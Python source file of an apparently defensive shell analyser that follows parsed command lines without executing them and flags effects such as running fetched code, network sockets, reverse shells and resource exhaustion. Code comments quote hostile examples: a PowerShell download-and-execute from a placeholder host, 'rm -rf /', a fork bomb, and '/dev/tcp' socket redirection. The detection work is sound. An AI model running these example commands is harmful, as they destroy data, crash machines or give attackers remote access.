"""Follow a parsed line as a shell would run it, without running anything: its effects, and what it prints."""

from __future__ import annotations

from clickstop.core.late import re
from clickstop.core.lists import words
from clickstop.shell import builtins, carried, heredocs, parse, paths, run_program, tree, writing
from clickstop.shell.call import ProgramCall
from clickstop.shell.effect import Effect
from clickstop.shell.expand import Expander
from clickstop.shell.long_text import opaque_detail, shortened
from clickstop.shell.programs import SHELLS, base_name
from clickstop.shell.scope import (
    ALL,
    CONTENTS,
    DECODED,
    DEPTH,
    FETCHED,
    MARKS,
    UNKNOWN,
    Arg,
    OverBudgetError,
    some_of,
)

TYPE_CHECKING = False
if TYPE_CHECKING:
    from clickstop.shell.scope import Scope

_KEYWORDS = words("{ } ! if then else elif fi while until do done esac coproc")
_HANDLERS = ("command_not_found_handle", "command_not_found_handler")  # of bash and zsh
_LENGTH = 40_000
_TRAPS = 8
_FROM = str.maketrans("", "", FETCHED + DECODED + CONTENTS + "\0")
_SHOWN = words("/dev/stdout /dev/stderr /dev/tty /dev/fd/1 /dev/fd/2 /proc/self/fd/1 /proc/self/fd/2")


def text(script: str, scope: Scope, stdin: str | None = None) -> str:
    """Follow shell text; return what it prints."""
    if scope.depth > DEPTH:
        scope.run.add(Effect("opaque", detail=opaque_detail(script, "nested too deeply"), target=script[:80]))
        return UNKNOWN
    # The grammar is slow with long here-documents and misreads some.
    lifted = heredocs.lift(script, scope.run.heredocs)
    scope.run.step(5 + len(lifted) // 20)
    parsed = parse.parse(lifted)
    if parsed.trouble:
        scope.run.add(Effect("opaque", detail=opaque_detail(lifted, parsed.trouble), target=script[:80]))
        # The grammar does not know PowerShell's `iex (iwr https://host/x.ps1)`.
        if "iex" in script.lower() or "expression" in script.lower():
            from clickstop.shell import powershell

            if powershell.runs_fetched(script):
                scope.run.add(Effect("executes_fetched", program="iex"))
    return node(parsed.body, scope, stdin)


def code(script: str, scope: Scope, stdin: str | None, program: str) -> str:
    """Follow text that a shell is given as a program, and report where the text comes from."""
    report_origin(script, scope, program)
    if len(script) >= _LENGTH:
        scope.run.add(Effect("opaque", program=program, detail=opaque_detail(script, "too long to read")))
    script = without_origin(script)
    return text(script, scope.inner(), stdin) if script.strip(MARKS + " \n") else UNKNOWN


def without_origin(script: str) -> str:
    """Remove the marks of a text's origin, once they are reported."""
    return script.translate(_FROM)


def report_origin(script: str, scope: Scope, program: str) -> None:
    """Record that text which was fetched or decoded, or is unknown, is run."""
    add = scope.run.add
    if FETCHED in script:
        add(Effect("executes_fetched", program=program, where=scope.where))
    if DECODED in script:
        add(Effect("executes_decoded", program=program, where=scope.where))
    if UNKNOWN in script and not script.strip(UNKNOWN + CONTENTS + " \n"):
        add(Effect("opaque", program=program, detail="dynamic text", where=scope.where))


def node(statement: tree.Node, scope: Scope, stdin: str | None = None) -> str:
    """Follow one node of the tree; return what it prints, with marks for what is unknown."""
    scope.run.step()
    expander = _expander(scope)
    # Input first, output last: a command needs its input when it is followed.
    stdin = _stdin(statement, expander, scope, stdin)
    printed = _followed(statement, scope, stdin, expander)[:_LENGTH]
    for redirect in statement.redirects:
        printed = _redirected(redirect, statement, scope, expander, printed)
    return printed


def _expander(scope: Scope) -> Expander:
    return Expander(scope, lambda script, inside: text(script, inside.inner()))


def _followed(statement: tree.Node, scope: Scope, stdin: str | None, expander: Expander) -> str:
    if isinstance(statement, tree.Simple):
        return _simple(statement, scope, stdin, expander)
    if isinstance(statement, tree.Sequence):
        return _sequence(statement, scope, stdin)
    if isinstance(statement, tree.Choice):
        return _choice(statement, scope, stdin)
    if isinstance(statement, tree.Pipeline):
        return _pipeline(statement, scope, stdin)
    if isinstance(statement, tree.Subshell):
        return node(statement.body, scope.inner(), stdin)
    if isinstance(statement, tree.Branches):
        return _branches(statement, scope, stdin)
    if isinstance(statement, tree.Loop):
        return _loop(statement, scope, stdin, expander)
    if isinstance(statement, tree.Function):
        scope.functions[statement.name] = statement.body
    elif isinstance(statement, tree.Words):
        scope.run.succeeded = {"((0))": False, "((1))": True}.get("".join(statement.text.split()))
        expander.words(statement.words)
    return ""


def _sequence(sequence: tree.Sequence, scope: Scope, stdin: str | None) -> str:
    """Follow commands in order; what stands after `&&` and `||` runs, may run, or does not."""
    run, printed = scope.run, ""
    for sign, item in sequence.items:
        if sign and sign != "&&":
            run.cluster = ()  # choosing it may have failed, and the line goes on
        if sign in ("&&", "||"):
            # `true || rm -rf /` never reaches the second command.
            if run.succeeded is not None and run.succeeded != (sign == "&&"):
                continue
            if run.succeeded is None:
                scope.conditional += 1
                printed += node(item, scope, stdin)
                scope.conditional -= 1
                run.succeeded = None
                continue
        if sign and sign != "&&" and any(effect.kind == "keeps_work" for effect in run.effects):
            run.effects.append(Effect("keeps_work"))  # the commit may have failed, and the line goes on
        printed += node(item, scope, stdin)
    if sequence.negated or sequence.background:
        run.cluster = ()
        run.succeeded = None if run.succeeded is None or sequence.background else not run.succeeded
    return printed


def _choice(choice: tree.Choice, scope: Scope, stdin: str | None) -> str:
    run = scope.run
    printed = node(choice.condition, scope, stdin)
    outcome = run.succeeded
    scope.conditional += outcome is None
    if outcome is not False:
        printed += node(choice.body, scope, stdin)
    run.cluster = ()
    for other in choice.others if outcome is not True else ():
        printed += node(other, scope, stdin)
    scope.conditional -= outcome is None
    run.succeeded = None
    return printed


def _pipeline(pipeline: tree.Pipeline, scope: Scope, stdin: str | None) -> str:
    for part in pipeline.parts:
        # Each part of a pipeline is a subshell: its assignments end with it.
        stdin = node(part, scope.inner(), stdin)
    scope.run.succeeded = None
    scope.run.cluster = ()  # only the last part decides whether a pipeline succeeds
    return stdin or ""


def _branches(branches: tree.Branches, scope: Scope, stdin: str | None) -> str:
    scope.conditional += 1
    printed = "".join([node(body, scope, stdin) for body in branches.bodies])
    scope.conditional -= 1
    scope.run.succeeded = None
    scope.run.cluster = ()
    return printed


def _loop(loop: tree.Loop, scope: Scope, stdin: str | None, expander: Expander) -> str:
    if loop.name:
        words = [value for word in expander.words(loop.words) for value in _listed(word, scope)]
        if loop.words and not words:  # an empty array: the body never runs
            return ""
        scope.variables[loop.name] = some_of(words if loop.words else scope.arguments, 16) or [UNKNOWN]
    if builtins.reads_nothing(loop, stdin):
        return ""
    if builtins.floods(loop):
        scope.run.add(Effect("exhausts_machine", detail="an endless loop that never waits"))
    printed = node(loop.condition, scope, stdin) if loop.condition else ""
    printed += node(loop.body, scope, stdin)
    scope.run.succeeded = None
    scope.run.cluster = ()  # the body may not have run
    return printed


def _listed(word: Arg, scope: Scope) -> list[str]:
    """Return the names that a word of a loop's list stands for."""
    if not word.pattern:
        return [str(word)]
    places = paths.places(word, scope.cwd, follow=False)
    marks = {"contents": f"/{ALL}", "some": f"/{UNKNOWN}"}
    return [place.path + marks.get(place.extent, "") for place in places if place.path] or [UNKNOWN]


def _stdin(node: tree.Node, expander: Expander, scope: Scope, stdin: str | None) -> str | None:
    for redirect in node.redirects:
        if redirect.word.startswith((heredocs.OPEN, heredocs.STRING)):
            stdin = _here(redirect.word, expander, scope)
        elif _has_number(redirect):
            _open(redirect, expander, scope)
        elif redirect.sign in ("<", "<>"):
            stdin = content_of(expander.first_value(redirect.word), scope)
        elif redirect.sign == "<&":
            stdin = content_of(scope.run.descriptors.get(redirect.word.strip("-"), "/dev/stdin"), scope)
    return stdin


def _here(word: str, expander: Expander, scope: Scope) -> str:
    """Return the text of a here-string, or of the here-document that a number stands for."""
    if word.startswith(heredocs.STRING):
        return expander.first_value(word[1:]) + "\n"
    number = word.strip(heredocs.OPEN + heredocs.CLOSE)
    if not number.isdigit() or int(number) >= len(scope.run.heredocs):
        return UNKNOWN
    document = scope.run.heredocs[int(number)]
    body = shortened(document.text, _LENGTH)
    return expander.document(body) if document.expands else body


def content_of(value: str, scope: Scope) -> str:
    """Return what a file holds, as far as this line or this session has written it."""
    call = ProgramCall("<", [], scope, None, text)
    if value.startswith(writing.NUMBERED):
        value = scope.run.descriptors.get(value.rpartition("/")[2], value)
    if value.startswith(writing.SOCKETS):
        # bash itself opens `/dev/tcp/HOST/PORT`; no such file exists.
        call.add("reaches_network", target=value.split("/")[3])
        return FETCHED
    if value == "/dev/null":
        return ""
    place = call.path(value)
    if value in scope.run.written or place in scope.run.written:
        return scope.run.written.get(value, scope.run.written.get(place, ""))
    if carried.is_file(place):
        call.add_file("reads", Arg(value))
    session_text = call.text_of(value)
    return (UNKNOWN if session_text is None else session_text) + carried.of_call(call)


def _redirected(
    redirect: tree.Redirect, statement: tree.Node, scope: Scope, expander: Expander, printed: str
) -> str:
    """Write what was printed where a redirection leads; return what is left for the next command."""
    if _has_number(redirect) or not redirect.sign.strip("<") or redirect.sign.startswith("<&"):
        return printed
    # `>&"${COPROC[1]}"` feeds the coprocess.
    if redirect.sign.startswith(">&") and "[1]" in redirect.word and scope.run.coprocess:
        command(scope.run.coprocess, scope.inner(), printed)
        return ""
    targets = expander.word(redirect.word)
    if targets and redirect.sign.startswith(">&") and targets[0] in scope.run.descriptors:
        targets = [Arg(scope.run.descriptors[targets[0]], targets[0].raw)]
    elif not targets or (redirect.sign.startswith(">&") and targets[0].strip("0123456789-") == ""):
        return printed
    if targets[0] in _SHOWN:
        return printed
    name = base_name(statement.words[0]) if isinstance(statement, tree.Simple) and statement.words else ">"
    if targets[0].startswith(writing.SOCKETS) and (
        name in SHELLS or name in ("exec", "eval") or name.startswith("$")
    ):
        scope.run.add(Effect("offers_shell", program=name, target=targets[0].split("/")[3]))
    is_stderr = redirect.number == "2"
    call = ProgramCall(name, [], scope, None, text)
    # The text of errors is unknown, and the output itself goes on.
    writing.write(call, targets[0], UNKNOWN if is_stderr else printed, append=">>" in redirect.sign, program=">")
    return printed if is_stderr else ""


def _has_number(redirect: tree.Redirect) -> bool:
    return redirect.number not in ("", "0", "1", "2")


def _open(redirect: tree.Redirect, expander: Expander, scope: Scope) -> None:
    """Remember what a descriptor stands for: `exec 3<>/dev/tcp/host/80`, `bash 3< file`."""
    word = expander.first_value(redirect.word)
    descriptors = scope.run.descriptors
    descriptors[redirect.number] = descriptors.get(word, word) if "&" in redirect.sign else word
    if word.startswith(writing.SOCKETS):
        scope.run.add(Effect("reaches_network", program="exec", target=word.split("/")[3]))
    elif redirect.sign in (">", ">|", "&>"):
        writing.write(ProgramCall("exec", [], scope, None, text), Arg(word, redirect.word), "", program=">")


# Variables whose value git and others run as a command.
_RUN = words("GIT_SSH_COMMAND GIT_EDITOR GIT_SEQUENCE_EDITOR GIT_PAGER GIT_ASKPASS PAGER PROMPT_COMMAND")


def _simple(simple: tree.Simple, scope: Scope, stdin: str | None, expander: Expander) -> str:
    assigned = [_assigned(name, value, expander, scope) for name, value in simple.assignments]
    for name, _ in assigned:
        if "$(" in name or "`" in name:  # in the index of an array: `a[$(cmd)]=x`
            expander.word(name)
    words = expander.words(simple.words)
    while words and words[0] in _KEYWORDS:
        if words[0] == "coproc":
            return _coprocess(words[1:], scope, stdin)
        words = words[1:]
        while words and words[0].partition("=")[0].isidentifier() and "=" in words[0]:
            words = words[1:]
    if not words:
        _assign(assigned, scope)
        # An assignment succeeds, unless a substitution in it fails.
        scope.run.succeeded = True if "$(" not in "".join(value for _, value in simple.assignments) else None
        return "" if assigned or stdin is None else stdin  # `$(< file)`
    if assigned and words[0] in ("read", "mapfile", "readarray"):
        return _reading(words, assigned, scope, stdin)
    if assigned:
        scope = scope if words[0] in _LASTING else scope.inner()  # `A=1 cmd` sets it for this command alone
        _assign(assigned, scope)
        for value in (value for name, values in assigned if name in _RUN for value in values):
            text(value, scope)
    return command(words, scope, stdin)


def _reading(words: list[Arg], assigned: list[tuple[str, list[str]]], scope: Scope, stdin: str | None) -> str:
    """`IFS=: read a b`: the variables that are read stay, the assignment before them does not."""
    before = {name: scope.variables.get(name) for name, _ in assigned}
    _assign(assigned, scope)
    printed = command(words, scope, stdin)
    for name, values in before.items():
        if values is None:
            scope.variables.pop(name, None)
        else:
            scope.variables[name] = values
    return printed


def _coprocess(words: list[Arg], scope: Scope, stdin: str | None) -> str:
    """`coproc sh`, `coproc NAME { sh; }`: a program in the background that may get more input later."""
    if len(words) > 1 and words[1] == "{":
        words = words[2:]
    while words and words[0] in _KEYWORDS:
        words = words[1:]
    scope.run.coprocess = words
    return command(words, scope.inner(), stdin) if words else ""


# Builtins that change the shell itself: they run in its own scope.
_LASTING = words("cd export eval source . read mapfile readarray declare typeset local readonly printf unset set")


def _assigned(name: str, raw: str, expander: Expander, scope: Scope) -> tuple[str, list[str]]:
    if not (raw.startswith("(") and raw.endswith(")")):
        return name, expander.values(raw)
    before = scope.variables.get(name[:-1], []) if name.endswith("+") else []
    return name.removesuffix("+"), [*before, *array(raw, scope)]


def array(raw: str, scope: Scope) -> list[str]:
    """Return the values of `(a "b c" [key]=d)`."""
    parsed, expander = parse.parse(f": {raw[1:-1]}").body, _expander(scope)
    first = parsed.items[0][1] if isinstance(parsed, tree.Sequence) and parsed.items else None
    if not isinstance(first, tree.Simple):
        return [UNKNOWN]
    values: list[str] = []
    for word in first.words[1:]:
        values += [expander.first_value(word)] if word.startswith("[") else map(str, expander.word(word))
    return values


def _assign(assigned: list[tuple[str, list[str]]], scope: Scope) -> None:
    for name, values in assigned:
        builtins.assign(name, values, scope)


def command(words: list[Arg], scope: Scope, stdin: str | None, *, functions: bool = True) -> str:
    """Follow one program call with its words expanded.

    Pass `functions=False` if another program starts it, which does not see the shell's functions.
    """
    scope.run.step(3)
    name = str(words[0])
    if not name:
        return ""
    if any(mark in name for mark in MARKS) or (words[0].pattern and not name.startswith("[")):
        return _dynamic(words, scope, stdin)
    scope.run.succeeded = {"true": True, ":": True, "false": False, "echo": True, "printf": True}.get(name)
    if functions and name in scope.functions:
        return _function(name, words[1:], scope, stdin)
    if name in scope.run.hashed:
        return run_program.run([Arg(scope.run.hashed[name], words[0].raw), *words[1:]], scope, stdin)
    if name in builtins.TABLE:
        return builtins.TABLE[name](words, scope, stdin)
    handler = next((function for function in _HANDLERS if function in scope.functions), "")
    if handler and not run_program.is_found(name, scope):
        return _function(handler, words, scope, stdin)
    return run_program.run(words, scope, stdin)


def _dynamic(words: list[Arg], scope: Scope, stdin: str | None) -> str:
    """Follow a command whose name is known only at run time."""
    name = str(words[0])
    if FETCHED in name or DECODED in name:
        report_origin(name, scope, "shell")
        return UNKNOWN
    call = ProgramCall(words[0].raw, words[1:], scope, stdin, text)
    call.add("opaque", target=words[0].raw, detail=_suspicion(call))
    if any(re.fullmatch(r"-[a-z]*c", word) for word in words[1:-1]):  # $SHELL -c TEXT, $PYTHON -c TEXT
        return command([Arg("python" if "py" in words[0].raw.lower() else "sh"), *words[1:]], scope, stdin)
    # The name may be empty, as in `$SUDO rm`: then the rest is the command.
    if name.strip(CONTENTS) == UNKNOWN and len(words) > 1 and not words[1].startswith("-"):
        return command(words[1:], scope, stdin)
    return UNKNOWN


def _suspicion(call: ProgramCall) -> str:
    letters = set(call.letters)
    flags = {word.partition("=")[0] for word in call.words if word.startswith("--")}
    if ({"r", "f"} <= letters or {"R", "f"} <= letters) or flags & {"--force", "--recursive", "--hard", "--delete"}:
        return "dynamic command with a destructive option"
    root = writing.real_root(call.scope)
    outside = (call.path(word) for word in call.words if word.startswith(("/", "~", "..")))
    if any(path and not (path + "/").startswith(root + "/") for path in outside):
        return "dynamic command with a target outside the repository"
    return "dynamic command"


def _function(name: str, arguments: list[Arg], scope: Scope, stdin: str | None) -> str:
    calling = scope.run.calling
    if name in calling:
        # `:(){ :|:& };:` does; plain recursion ends, or harms only itself.
        if builtins.multiplies(scope.functions[name], name):
            scope.run.add(Effect("exhausts_machine", program=name, detail="a function that starts itself twice"))
        return ""
    calling.append(name)
    # A function sees its caller's variables, but has arguments of its own.
    before, scope.arguments = scope.arguments, [str(word) for word in arguments]
    try:
        return node(scope.functions[name], scope, stdin)
    finally:
        scope.arguments = before
        calling.pop()


def line(script: str, scope: Scope) -> None:
    """Follow a whole line within its budget."""
    printed = ""
    try:
        printed = text(script, scope)
        # `trap 'rm -rf x' EXIT` runs last.
        for trap, inside in scope.run.traps[:_TRAPS]:
            text(trap, inside.inner())
    except OverBudgetError:
        _give_up(script, scope, "too much to follow")
    except RecursionError:
        _give_up(script, scope, "nested too deeply")
    try:
        carried.add_destinations(scope.run, printed)
    except OverBudgetError:
        _give_up(script, scope, "too much to follow")


def _give_up(script: str, scope: Scope, why: str) -> None:
    scope.run.add_last(Effect("opaque", detail=opaque_detail(script, why), target=script[:80]))
